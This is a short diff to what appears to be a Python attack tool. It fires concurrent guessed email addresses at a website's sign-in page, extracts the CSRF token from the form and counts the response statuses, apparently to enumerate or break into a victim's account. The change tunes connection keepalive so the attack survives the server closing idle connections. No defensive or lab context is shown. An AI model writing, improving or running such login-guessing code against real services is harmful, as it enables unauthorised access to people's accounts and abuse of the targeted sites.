@@ -47,7 +47,8 @@ def guesses(victim: Person, real: list[Person]) -> Iterator[str]:
 async def attack(address: str, emails: Iterator[str]) -> Counter[int]:
     """The statuses that the guesses got."""
     found: Counter[int] = Counter()
-    limits = httpx.Limits(max_connections=AT_ONCE)
+    # Let go of an idle connection before the server does: it closes them after five seconds.
+    limits = httpx.Limits(max_connections=AT_ONCE, keepalive_expiry=2)
     async with httpx.AsyncClient(base_url=address, limits=limits, timeout=120) as client:
         page = await client.get(SIGN_IN)
         token = page.text.partition('_csrf_token" value="')[2].partition('"')[0]
